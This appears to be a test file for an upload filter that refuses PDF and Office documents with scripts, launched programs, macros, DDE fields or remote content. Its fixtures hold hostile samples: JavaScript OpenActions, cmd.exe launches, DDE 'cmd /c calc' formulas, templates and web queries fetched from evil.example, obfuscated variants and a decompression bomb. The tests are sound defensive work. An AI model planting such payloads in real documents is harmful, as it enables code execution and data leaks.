import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, test } from 'vitest';
import { Refusal } from '#server/base/http/errors.ts';
import { cpuOf } from '../../../tests/support/cpu.ts';
import { DOCX, docxParts, ODS, openParts, pdf, XLSX, xlsxParts, zipOf } from '../../../tests/support/documents.ts';
import { refuseUnsound } from './documents.ts';

/** A PDF as a program of every day writes one: fonts, compressed text, links, an outline. */
function everyday(): Promise<Buffer> {
  const document = new PDFDocument({ info: { Title: 'Price list' } });
  const chunks: Buffer[] = [];
  document.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<Buffer>((resolve) => document.on('end', () => resolve(Buffer.concat(chunks))));
  document.outline.addItem('Valves').addItem('Gate valves');
  document
    .text('Gate valve DN 50', { link: 'https://halderby.example' })
    .font('Courier')
    .text('Launch offer: JavaScript courses, /page 2')
    .addPage()
    .text('End');
  document.end();
  return done;
}

const withObject = (object: string, more = ''): Buffer =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n2 0 obj\n${object}\nendobj\n${more}startxref\n9\n%%EOF\n`, 'latin1');
function inObjectStream(object: string, type = '/ObjStm', filter = '/FlateDecode'): Buffer {
  const packed = deflateSync(Buffer.from(`5 0 ${object}`, 'latin1')).toString('latin1');
  return withObject(`<< /Type ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n${packed}\nendstream`);
}
const refusal = (bytes: Buffer, type = 'application/pdf'): string => {
  try {
    refuseUnsound(bytes, type);
    return 'taken';
  } catch (error) {
    return (error instanceof Refusal && error.body('').fields?.['file']) || String(error);
  }
};

describe('a PDF [FIX-022]', () => {
  test('of every day is taken, with links, fonts, an outline and words about scripts', async () => {
    expect(refusal(await everyday())).toBe('taken');
    expect(refusal(pdf())).toBe('taken');
    expect(refusal(inObjectStream('<< /Type /Annot /A << /S /URI /URI (https://halderby.example) >> >>'))).toBe('taken');
  });

  const dirty: [string, Buffer][] = [
    ['a script', withObject('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['a script whose name is escaped', withObject('<< /S /J#61va#53cript /#4aS (1) >>')],
    ['a program that is started', withObject('<< /S /Launch /F (cmd.exe) >>')],
    ['an embedded file', withObject('<< /Names << /EmbeddedFiles 3 0 R >> >>')],
    ['an attached file that does not say what it is', withObject('<< /Type /Filespec /EF << /F 3 0 R >> >>')],
    ['a note that carries a file', withObject('<< /Subtype /FileAttachment /FS 3 0 R >>')],
    ['a way to a document elsewhere', withObject('<< /S /GoToR /F (\\\\evil.example\\share\\a.pdf) >>')],
    ['a form that is a script', withObject('<< /AcroForm << /XFA 3 0 R >> >>')],
    ['a script in a compressed object stream', inObjectStream('<< /S /JavaScript /JS (1) >>')],
    ['a script in one whose type is escaped', inObjectStream('<< /S /JavaScript /JS (1) >>', '/Obj#53tm')],
    ['a script in one that hides its type', inObjectStream('<< /S /JavaScript /JS (1) >>', '/Other')],
    ['a script inside of what looks like a stream', withObject('<< /Length 3 >>\nstream\nabc 7 0 obj << /S /JavaScript >> endobj\nendstream')],
  ];
  test.each(dirty)('with %s is refused', (_, bytes) => expect(refusal(bytes)).toMatch(/^PDF files with scripts, programs or embedded files/));

  test('that is encrypted is refused, and so is one whose objects are packed so that nobody sees them', () => {
    expect(refusal(withObject('<< >>', 'trailer << /Encrypt 4 0 R >>\n'))).toContain('password');
    expect(refusal(inObjectStream('<< >>', '/ObjStm', '/LZWDecode').map((byte, at) => (at === 130 ? 0 : byte)) as Buffer)).not.toBe('taken');
  });

  test('that unpacks to more than anybody writes is refused, quickly', () => {
    const packed = deflateSync(Buffer.alloc(80_000_000)).toString('latin1');
    const bomb = withObject(`<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\n${packed}\nendstream`);
    expect(cpuOf(() => expect(refusal(bomb)).toContain('damaged'))).toBeLessThan(3_000);
  });
});

const RELS = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`;

describe('an Office file [FIX-022]', () => {
  test('with links that people press is taken, whatever its words are', () => {
    const link = { 'xl/worksheets/_rels/sheet1.xml.rels': RELS('hyperlink', 'https://halderby.example') };
    expect(
      refusal(zipOf({ ...xlsxParts(), ...link, 'xl/worksheets/sheet1.xml': '<c><f>SUM(A1:A9)</f><v>3</v></c><t>DDE | DDEAUTO explained</t>' }), XLSX),
    ).toBe('taken');
    expect(
      refusal(zipOf({ ...docxParts, 'word/document.xml': '<w:t>DDE is old</w:t><w:instrText> HYPERLINK "https://halderby.example" </w:instrText>' }), DOCX),
    ).toBe('taken');
    expect(refusal(zipOf({ ...openParts(ODS), 'content.xml': '<text:p>DDE</text:p>' }), ODS)).toBe('taken');
  });

  const dirty: [string, string, Buffer][] = [
    ['a template from elsewhere', DOCX, zipOf({ ...docxParts, 'word/_rels/settings.xml.rels': RELS('attachedTemplate', 'http://evil.example/t.dotm') })],
    ['a picture from elsewhere', DOCX, zipOf({ ...docxParts, 'word/_rels/document.xml.rels': RELS('image', '\\\\evil.example\\x.png') })],
    [
      'an object from elsewhere, in other quotes',
      DOCX,
      zipOf({ ...docxParts, 'word/_rels/document.xml.rels': RELS('oleObject', 'http://evil.example').replaceAll('"', "'") }),
    ],
    [
      'links to another workbook',
      XLSX,
      zipOf({ ...xlsxParts(), 'xl/externalLinks/_rels/externalLink1.xml.rels': RELS('externalLinkPath', 'file:///c:/x.xlsx') }),
    ],
    [
      'a DDE link',
      XLSX,
      zipOf({ ...xlsxParts(), 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }),
    ],
    ['a DDE formula', XLSX, zipOf({ ...xlsxParts(), 'xl/worksheets/sheet1.xml': "<c><f>cmd|'/c calc'!A0</f></c>" })],
    ['a DDE field', DOCX, zipOf({ ...docxParts, 'word/document.xml': '<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>' })],
    ['a DDE field in pieces', DOCX, zipOf({ ...docxParts, 'word/document.xml': '<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText>' })],
    ['a DDE source', ODS, zipOf({ ...openParts(ODS), 'content.xml': '<table:dde-link><office:dde-source office:dde-application="cmd"/></table:dde-link>' })],
    ['a script on an event', ODS, zipOf({ ...openParts(ODS), 'content.xml': '<script:event-listener script:language="ooo:script"/>' })],
  ];
  const word = (text: string) => zipOf({ ...docxParts, 'word/document.xml': text });
  const settings = (text: string) => zipOf({ ...docxParts, 'word/_rels/settings.xml.rels': text });
  const template = RELS('attachedTemplate', 'https://evil.example/t.dotm');
  const disguised: [string, string, Buffer][] = [
    ['a template whose mode is escaped', DOCX, settings(template.replace('External', '&#69;xtern&#x61;l'))],
    ['a template whose address ends like a hyperlink', DOCX, settings(RELS('attachedTemplate', 'https://evil.example/relationships/hyperlink'))],
    ['a template behind a bracket in quotes', DOCX, settings(template.replace('rId1', 'a>b'))],
    ['a template in a very long tag', DOCX, settings(template.replace('rId1', 'x'.repeat(9_000)))],
    ['a template whose mode is an entity', DOCX, settings(`<!DOCTYPE x [<!ENTITY e "External">]>${template.replace('External', '&e;')}`)],
    ['a DDE field of another prefix', DOCX, word('<x:instrText> DDEAUTO cmd </x:instrText>')],
    ['a DDE field with an escape, a comment and a section', DOCX, word('<w:instrText>D&#68;<!-- x -->E<![CDATA[AUTO]]> cmd</w:instrText>')],
    ['a DDE field in single quotes', DOCX, word("<w:fldSimple w:instr='DDE cmd'/>")],
    ['a chunk of another format', DOCX, word('<x:altChunk r:id="rId1"/>')],
    ['a query to the web', XLSX, zipOf({ ...xlsxParts(), 'xl/connections.xml': '<connection><webPr url="https://evil.example"/></connection>' })],
    ['a formula that fetches', XLSX, zipOf({ ...xlsxParts(), 'xl/worksheets/sheet1.xml': '<c><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>' })],
    ['a picture that is fetched', ODS, zipOf({ ...openParts(ODS), 'content.xml': "<draw:image xlink:href='https://evil.example/p.png'/>" })],
    ['a DDE source of another prefix', ODS, zipOf({ ...openParts(ODS), 'content.xml': '<o:dde-source o:dde-topic="x"/>' })],
  ];
  test.each([...dirty, ...disguised])('with %s is refused', (_, type, bytes) => expect(refusal(bytes, type)).toMatch(/^Files with links to data elsewhere/));

  const withMacro = zipOf({ ...xlsxParts(), 'xl/macrosheets/sheet1.xml': '<x/>' });
  test.each<[string, string, Record<string, string | Buffer>]>([
    ['of a format for macros', DOCX, { 'word/embeddings/a.docm': 'PK' }],
    ['of an old format', DOCX, { 'word/embeddings/a.dat': Buffer.from('d0cf11e0a1b11ae1', 'hex') }],
    ['with a macro, under a plain name', DOCX, { 'word/embeddings/a.xlsx': withMacro }],
    ['with one that has a macro', DOCX, { 'word/embeddings/a.docx': zipOf({ ...docxParts, 'word/embeddings/b.xlsx': withMacro as never }) }],
    ['with a macro, in OpenDocument', ODS, { 'Object 1': withMacro }],
  ])('with a document in it %s is refused', (_, type, more) => {
    const parts = type === ODS ? openParts(ODS) : docxParts;
    expect(refusal(zipOf({ ...parts, ...(more as Record<string, string>) }), type)).toMatch(/^Files with macros/);
  });

  test('with a sound table in it, pictures of its own and links that people press is taken', () => {
    expect(refusal(zipOf({ ...docxParts, 'word/embeddings/a.xlsx': zipOf(xlsxParts()) as never }), DOCX)).toBe('taken');
    const content = '<text:a xlink:href="https://halderby.example">x</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>';
    expect(refusal(zipOf({ ...openParts(ODS), 'content.xml': content }), ODS)).toBe('taken');
    expect(refusal(zipOf({ ...openParts(ODS), 'content.xml': 'x' }), ODS)).toBe('taken');
  });

  test('of hostile pieces is read quickly', () => {
    const words = ['<!--', '<w:instrText', '<Relationship a="', '&#6', '<a b=', '<w:f ', "='", ']]>'].map((piece) => word(piece.repeat(400_000)));
    const tables = ['<a x="', '<a ', ' href="'].map((piece) => zipOf({ ...openParts(ODS), 'content.xml': piece.repeat(400_000) }));
    expect(cpuOf(() => [words.map((file) => refusal(file, DOCX)), tables.map((file) => refusal(file, ODS))])).toBeLessThan(5_000);
  });
});
